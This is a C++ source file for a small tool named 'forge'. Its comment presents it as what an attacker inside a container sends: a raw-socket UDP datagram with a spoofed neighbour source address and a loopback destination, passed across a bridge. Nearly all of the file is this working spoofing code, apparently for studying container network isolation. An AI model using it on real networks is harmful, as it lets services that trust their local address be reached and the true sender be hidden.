// forge SOURCE DESTINATION PORT VIA TEXT: one UDP datagram under any name.
//
// What an attacker in a container sends. It is root there, so it may open a raw socket, and a raw
// socket may bring its own IP header (raw(7), IP_HDRINCL): the kernel looks up the way to VIA and
// sends the header as it is. SOURCE can be a neighbour's address, and DESTINATION one that never
// belongs on a cable: 127.0.0.1. Nothing on a bridge compares the sender's name with its port.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

in_addr address_of(const char* text) {
    in_addr address{};
    if (::inet_pton(AF_INET, text, &address) == 1) return address;
    std::fprintf(stderr, "%s is no IPv4 address\n", text);
    std::exit(2);
}

// The kernel fills in length, id and checksum of the IP header; a UDP checksum of 0 means none.
std::vector<char> datagram(in_addr source, in_addr destination, int port, const std::string& text) {
    iphdr ip{};
    ip.version = 4;
    ip.ihl = sizeof ip / 4;
    ip.ttl = 64;
    ip.protocol = IPPROTO_UDP;
    ip.saddr = source.s_addr;
    ip.daddr = destination.s_addr;
    udphdr udp{};
    udp.source = htons(40000);
    udp.dest = htons(static_cast<std::uint16_t>(port));
    udp.len = htons(static_cast<std::uint16_t>(sizeof udp + text.size()));
    std::vector<char> bytes(sizeof ip + sizeof udp + text.size());
    std::memcpy(bytes.data(), &ip, sizeof ip);
    std::memcpy(bytes.data() + sizeof ip, &udp, sizeof udp);
    std::memcpy(bytes.data() + sizeof ip + sizeof udp, text.data(), text.size());
    return bytes;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 6) {
        std::fprintf(stderr, "usage: forge SOURCE DESTINATION PORT VIA TEXT\n");
        return 2;
    }
    const std::vector<char> bytes =
        datagram(address_of(argv[1]), address_of(argv[2]), std::atoi(argv[3]), argv[5]);
    sockaddr_in via{};
    via.sin_family = AF_INET;
    via.sin_addr = address_of(argv[4]);
    const int raw = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    const auto* where = reinterpret_cast<const sockaddr*>(&via);
    if (raw < 0 || ::sendto(raw, bytes.data(), bytes.size(), 0, where, sizeof via) < 0) {
        std::perror("forge");
        return 1;
    }
    return 0;
}
